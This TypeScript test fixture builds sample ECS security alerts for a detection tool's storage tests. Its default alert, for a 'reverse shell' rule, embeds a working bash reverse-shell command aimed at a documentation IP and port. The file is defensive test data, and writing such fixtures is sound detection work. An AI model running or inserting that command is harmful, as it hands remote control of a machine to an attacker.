// Builds realistic ECS alert documents for sink tests (SQLite, Elasticsearch).

import { createHash } from "node:crypto";
import type { Alert, AlertLevel } from "../../common/src/alerts/types";
import { SEVERITY_BY_LEVEL } from "../../common/src/alerts/types";

export interface AlertFixtureOptions {
  /** Distinguishes alerts: same seed, same id (a redelivery). */
  seed: string | number;
  level?: AlertLevel;
  ruleId?: string;
  ruleName?: string;
  hostName?: string;
  timestampUs?: number;
}

const BASE_TIME_US = Date.UTC(2025, 0, 15, 12, 0, 0) * 1000;

export function makeAlert(options: AlertFixtureOptions): Alert {
  const level = options.level ?? "high";
  const ruleId = options.ruleId ?? "vigil-reverse-shell";
  const ruleName = options.ruleName ?? "Reverse shell via bash /dev/tcp";
  const hostName = options.hostName ?? "web-01";
  // Numeric seeds are seconds after a fixed base, so "newest first" is predictable.
  const offsetUs = typeof options.seed === "number" ? options.seed * 1_000_000 : 0;
  const timestampUs = options.timestampUs ?? BASE_TIME_US + offsetUs;
  const id = hashOf(`${ruleId}:${options.seed}`);
  const rule = {
    id: ruleId,
    name: ruleName,
    description: "bash opened a TCP socket as stdin/stdout",
    level,
    author: "vigil",
    references: [],
    tags: ["attack.execution", "attack.t1059.004"],
    version: "1",
  };
  return {
    id,
    timestampUs,
    level,
    rule,
    document: {
      "@timestamp": new Date(Math.floor(timestampUs / 1000)).toISOString(),
      message: `${ruleName} on ${hostName}`,
      event: {
        kind: "alert",
        category: ["process"],
        type: ["start"],
        action: "exec",
        severity: SEVERITY_BY_LEVEL[level],
        id,
      },
      rule: { id: ruleId, name: ruleName, description: rule.description, version: "1" },
      host: { name: hostName, id: `host-${hostName}` },
      process: {
        pid: 4242,
        executable: "/usr/bin/bash",
        command_line: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        args: ["bash", "-i"],
        parent: { pid: 4200, executable: "/usr/sbin/sshd", command_line: "sshd: alice" },
      },
      user: { name: "alice" },
      destination: { ip: "203.0.113.7", port: 4444 },
      threat: { technique: { id: ["T1059.004"], name: ["Unix Shell"] } },
      tags: ["vigil"],
      vigil: { alert_id: id, seed: String(options.seed) },
    },
  };
}

function hashOf(text: string): string {
  return createHash("sha256").update(text).digest("hex").slice(0, 32);
}
